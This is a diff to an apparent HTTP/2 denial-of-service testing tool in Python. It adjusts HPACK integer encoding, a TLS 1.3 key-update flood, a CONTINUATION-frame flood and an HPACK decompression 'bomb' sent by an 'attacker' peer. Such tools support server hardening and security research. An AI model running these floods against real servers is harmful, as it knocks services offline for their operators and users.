@@ -42,10 +42,10 @@ def number(value: int) -> bytes:
     return struct.pack(">I", value)
 
 
-def integer(value: int) -> bytes:
-    """Returns an HPACK integer (RFC 7541 §5.1) that fills its prefix of seven bits."""
-    value -= 127
-    output = b"\x7f"
+def integer(value: int, prefix_bits: int) -> bytes:
+    """Returns an HPACK integer (RFC 7541 §5.1) that fills its prefix."""
+    value -= (1 << prefix_bits) - 1
+    output = bytes([(1 << prefix_bits) - 1])
     while value >= 128:
         output += bytes([value & 127 | 128])
         value >>= 7
@@ -68,11 +68,10 @@ class Peer:
     """A connection that has begun HTTP/2."""
 
     def __init__(
-        self, target: Target, settings: bytes = b"", opening: bytes = PREFACE, acknowledges: bool = True,
-        connection: raw_tls.RawTLS | None = None,
-    ):  # fmt: skip
-        self.socket = connection or target.connect()
-        if target.ca and not connection:
+        self, target: Target, settings: bytes = b"", opening: bytes = PREFACE, acknowledges: bool = True
+    ):
+        self.socket = target.connect()
+        if target.ca:
             context = ssl.create_default_context(cafile=target.ca)
             context.set_alpn_protocols(["h2"])
             self.socket = context.wrap_socket(self.socket, server_hostname=target.address[0])
@@ -153,9 +152,9 @@ def peers(target: Target, settings: bytes = b"", acknowledges: bool = True) -> I
             yield attacker
 
 
-def send_all(attacker: Peer, pieces: Callable[[int], bytes]) -> None:
-    """Sends one piece after another, without reading, until the server accepts no more or 20,000 were sent."""
-    for start in range(0, 20_000, 500):
+def send_all(attacker: Peer, pieces: Callable[[int], bytes], count: int = 20_000) -> None:
+    """Sends one piece after another, without reading, until the server accepts no more or `count` were sent."""
+    for start in range(0, count, 500):
         if not attacker.send(b"".join(pieces(index) for index in range(start, start + 500))):
             break
 
@@ -245,7 +244,7 @@ def crowd(count: int, first: bytes, drop: bytes = b"") -> Callable[[Target], Ite
 
 def kept_block() -> bytes:
     """Sends a field block that stops one byte before the end of a field of the maximum length."""
-    long = block() + b"\x00\x01x" + integer(31_900)
+    long = block() + b"\x00\x01x" + integer(31_900, 7)
     beginning = frame(HEADERS, 0, 1, long) + frame(CONTINUATION, 0, 1, b"v" * 16_000)
     return beginning + frame(CONTINUATION, 0, 1, b"v" * 15_899)
 
@@ -255,15 +254,10 @@ def unacknowledged_settings(target: Target) -> Iterator[str]:
 
 
 def key_updates(target: Target) -> Iterator[str]:
-    """Requests one new key of TLS 1.3 after another, and reads nothing. The server may answer each with its own."""
+    """Requests new keys of TLS 1.3. The server may answer each with its own new key."""
     for kind in (raw_tls.KEY_UPDATE_REQUESTED, raw_tls.KEY_UPDATE_NOT_REQUESTED):
         for _ in range(2 * target.scale):
-            connection = raw_tls.RawTLS(target.connect())
-            with Peer(target, acknowledges=False, connection=connection) as attacker:
-                for _ in range(50_000):
-                    if not connection.update_key(kind):
-                        break
-                yield attacker.outcome()
+            yield raw_tls.key_updates(target.connect, PREFACE + frame(SETTINGS), kind, 50_000)
 
 
 def client_hello() -> bytes:
@@ -322,7 +316,7 @@ def garbage(target: Target) -> Iterator[str]:
 
 
 # One entry of the maximum size of the table, then thousands of one-byte references to it, as fields.
-BOMB = bytes([0x40, 1]) + b"x" + integer(4000) + b"v" * 4000 + bytes([0xBE]) * 10_000
+BOMB = bytes([0x40, 1]) + b"x" + integer(4000, 7) + b"v" * 4000 + bytes([0xBE]) * 10_000
 OPEN, TRAILER = frame(HEADERS, END_HEADERS, 1, block()), field(b"a", b"b")
 CONTINUED = frame(CONTINUATION, 0, 1, TRAILER)
 CALM = (f"GOAWAY {ENHANCE_YOUR_CALM}", "closed")
